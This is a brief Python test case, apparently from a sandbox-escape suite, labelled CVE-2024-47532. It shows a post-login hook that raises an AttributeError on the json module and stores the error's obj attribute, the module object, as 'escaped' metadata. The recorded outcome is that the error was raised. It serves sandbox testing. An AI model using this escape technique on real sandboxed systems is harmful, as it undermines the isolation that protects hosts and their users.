# origin: CVE-2024-47532
# technique: the AttributeError of a module carries the module
# goal: language
# outcome: RAISED:AttributeError

import json
def on_execute_post_login(event, api):
    try:
        getattr(json, "nope")
    except AttributeError as error:
        api.user.set_app_metadata("escaped", str(error.obj))
